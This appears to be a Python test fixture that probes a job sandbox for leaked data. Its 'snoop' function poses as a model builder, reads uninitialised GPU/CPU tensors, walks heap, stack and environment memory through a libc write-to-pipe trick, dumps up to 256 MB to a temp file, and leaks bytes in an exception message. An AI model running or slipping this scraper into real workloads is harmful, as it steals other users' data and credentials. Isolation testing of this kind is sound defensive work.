"""Code in a job's child that looks for what others left in memory, and puts what it finds into its own output."""

import base64
import ctypes
import gc
import os
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import torch
from torch import nn

DUMP = "memory"
_PAGE = os.sysconf("SC_PAGE_SIZE")
_UNINITIALISED = (1 << 12, 1 << 16, 1 << 20, 1 << 24)
_MOST = 256 << 20
_LIBC = ctypes.CDLL(None)
_LIBC.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
_LIBC.sbrk.restype = ctypes.c_void_p


def snoop(num_classes: int, *, planted: str = "") -> nn.Module:
    """Write all memory that can be found into the job's folder, and raise RuntimeError that carries some of it.

    `planted` lies in this process' memory, as all options do. The folder goes when the job ends, so this waits until
    the dump is read and removed.
    """
    tensors = [torch.empty(count, dtype=torch.uint8) for count in _UNINITIALISED]
    dump = Path(tempfile.gettempdir(), DUMP)
    with dump.with_suffix(".part").open("wb") as out:
        for tensor in tensors:
            out.write(tensor.numpy().tobytes())
        for pages in _all_memory(tensors):
            out.write(pages)
    dump.with_suffix(".part").rename(dump)
    while dump.exists():
        time.sleep(0.01)
    raise RuntimeError("found: " + base64.b64encode(tensors[0].numpy().tobytes()).decode())


def _all_memory(tensors: list[torch.Tensor]) -> Iterator[bytes]:
    """Every mapping that an address in hand lies in: heap, arenas, stack with the environment, large buffers."""
    seen: set[int] = set()
    reader, writer = os.pipe()
    for address in _addresses(tensors):
        first = address // _PAGE * _PAGE
        for page, step in ((first, _PAGE), (first - _PAGE, -_PAGE)):
            while page not in seen and len(seen) * _PAGE < _MOST:
                if _LIBC.write(writer, page, _PAGE) != _PAGE:  # the kernel answers EFAULT where no memory is
                    break
                seen.add(page)
                yield os.read(reader, _PAGE)
                page += step


def _addresses(tensors: list[torch.Tensor]) -> Iterator[int]:
    environment = ctypes.cast(ctypes.c_void_p.in_dll(_LIBC, "environ").value, ctypes.POINTER(ctypes.c_void_p))
    for at in range(1000):
        if environment[at] is None:
            break
        yield environment[at]
    yield ctypes.addressof(ctypes.c_int())
    yield _LIBC.sbrk(0) - _PAGE
    yield from (tensor.data_ptr() for tensor in tensors)
    yield from (id(thing) for thing in gc.get_objects()[::50])
